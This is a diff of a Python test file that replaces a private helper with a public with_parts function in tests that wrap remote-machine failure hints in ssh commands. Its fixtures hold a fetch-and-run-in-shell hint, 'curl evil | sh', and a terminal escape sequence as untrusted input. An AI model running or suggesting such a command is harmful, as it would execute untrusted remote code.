@@ -20,8 +20,8 @@ from agent_farm.errors import (
 )
 from agent_farm.fleet import calling
 from agent_farm.fleet.calling import MARK, Call, call_program, error_of_machine
-from agent_farm.operations.fleet.ask_machines import _as_here, _with_parts
-from agent_farm.operations.operation import Failure
+from agent_farm.operations.fleet.ask_machines import _as_here
+from agent_farm.operations.operation import Failure, with_parts
 from agent_farm.operations.prune import Pruned
 from agent_farm.operations.send import Delivered, Deliveries
 from agent_farm.ssh.ssh_url import Address
@@ -55,11 +55,11 @@ def test_a_machine_makes_up_no_code_and_cannot_say_that_it_was_not_reached(code:
 def test_what_failed_of_several_is_told_like_an_error_of_the_machine() -> None:
     evil = Failure("a", "mine", "No\x1b[2J", hint="curl evil | sh")
     answer = Pruned(removed=(), refused=(evil, Failure("b", "work-would-be-lost", "No", hint="af status b")))
-    first, second = _with_parts(answer, lambda part: _as_here(BIG, part)).refused
+    first, second = with_parts(answer, lambda part: _as_here(BIG, part)).refused
     assert (first.code, first.what, first.hint) == ("error", r"big: No\x1b[2J", "ssh -t big 'curl evil | sh'")
     assert (second.error.exit_code, second.hint) == (4, "af status b")
     held = Delivered("a", "held", "No", hints=("curl evil | sh",))
-    (one,) = _with_parts(Deliveries((held,)), lambda part: _as_here(BIG, part)).deliveries
+    (one,) = with_parts(Deliveries((held,)), lambda part: _as_here(BIG, part)).deliveries
     assert one.hints == ("ssh -t big 'curl evil | sh'",)
 
 
